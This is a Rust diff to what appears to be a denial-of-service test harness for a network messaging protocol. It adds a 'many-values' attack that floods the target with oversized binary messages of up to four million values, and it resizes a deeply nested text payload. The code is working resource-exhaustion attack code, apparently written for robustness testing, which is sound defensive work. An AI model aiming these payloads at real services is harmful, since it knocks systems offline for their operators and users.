@@ -22,6 +22,9 @@ const MAX_RECONNECTS: usize = 2_000;
 /// Bytes of a piece that endless attacks repeat.
 const PIECE: usize = 64 << 10;
 
+/// Bytes of a line of nested text, just below what a line may have; and values of a bottle, as many as may be.
+const MAX_LINE: usize = 3_800_000;
+const MAX_VALUES: usize = 4 << 20;
 /// Bytes that a compressed message expands to; just below what a process expands at a time.
 const EXPANDED: usize = 40 << 20;
 
@@ -36,6 +39,7 @@ pub(crate) enum Attack {
     EmptyFrames,
     NestedText,
     NestedTextPlain,
+    ManyValues,
     Zlib,
     PortProperties,
     NameProperties,
@@ -53,7 +57,7 @@ pub(crate) struct Outcome {
 }
 
 impl Attack {
-    pub(crate) const ALL: [Self; 12] = [
+    pub(crate) const ALL: [Self; 13] = [
         Self::EndlessNames,
         Self::LongNames,
         Self::Forms,
@@ -62,6 +66,7 @@ impl Attack {
         Self::EmptyFrames,
         Self::NestedText,
         Self::NestedTextPlain,
+        Self::ManyValues,
         Self::Zlib,
         Self::PortProperties,
         Self::NameProperties,
@@ -78,6 +83,7 @@ impl Attack {
             Self::EmptyFrames => "empty-frames",
             Self::NestedText => "nested-text",
             Self::NestedTextPlain => "nested-text-plain",
+            Self::ManyValues => "many-values",
             Self::Zlib => "zlib",
             Self::PortProperties => "port-properties",
             Self::NameProperties => "name-properties",
@@ -110,7 +116,7 @@ impl Attack {
                 targets.names
             }
             // Devices limit requests; other ports take what messages may have.
-            Self::NestedTextPlain => targets.plain,
+            Self::NestedTextPlain | Self::ManyValues => targets.plain,
             _ => targets.arm,
         };
         let mut attacker = Attacker::new(target, targets.names, bytes);
@@ -173,13 +179,19 @@ impl Attack {
             }
             Self::NestedText | Self::NestedTextPlain => {
                 to.greet(tag)?;
-                let line = format!(
-                    "d\r\n{}{}{}\r\n",
-                    "(".repeat(199),
-                    "a ".repeat(1_900_000),
-                    ")".repeat(199)
-                );
+                let words = to.bytes.min(MAX_LINE) / 2;
+                let (open, close) = ("(".repeat(199), ")".repeat(199));
+                let line = format!("d\r\n{open}{}{close}\r\n", "a ".repeat(words));
                 to.repeat(line.as_bytes())
+            }
+            Self::ManyValues => {
+                // A list of numbers of a byte each, in the binary form of all versions.
+                let count = to.bytes.min(MAX_VALUES);
+                to.greet_fast_tcp(tag)?;
+                let mut bottle = Vec::from((256_i32 | 32).to_le_bytes());
+                bottle.extend((count as i32).to_le_bytes());
+                bottle.resize(bottle.len() + count, 1);
+                to.repeat(&fast_tcp_message(&bottle))
             }
             Self::Zlib => {
                 if let Err(error) = to.expanding_messages(tag) {
@@ -213,6 +225,15 @@ impl Attack {
             }
         }
     }
+}
+
+/// Returns a message on `fast_tcp`.
+fn fast_tcp_message(content: &[u8]) -> Vec<u8> {
+    let mut message = b"YA\x0a\0\0\0RP\x02\x01\xff\xff\xff\xff\xff\xff\xff\xff\x08\0\0\0".to_vec();
+    message.extend((content.len() as i32).to_le_bytes());
+    message.extend(b"\0\0\0\0\0\0\0\0~d\0\x01");
+    message.extend(content);
+    message
 }
 
 /// Returns a message that takes a thousandth of what it expands to.
@@ -339,6 +360,14 @@ impl Attacker {
     /// Begins a connection of the text carrier.
     fn greet(&mut self, tag: &str) -> Option<()> {
         self.send(format!("CONNECT /abuse/{tag}\r\n").as_bytes())
+    }
+
+    /// Begins a connection of `fast_tcp`, which nothing is acknowledged on.
+    fn greet_fast_tcp(&mut self, tag: &str) -> Option<()> {
+        let name = format!("/abuse/{tag}\0");
+        self.send(b"YA\xe4\x1e\0\0RP")?;
+        self.send(&(name.len() as i32).to_le_bytes())?;
+        self.send(name.as_bytes())
     }
 
     /// Writes messages that a monitor of the victim expands to about a thousand times their size.
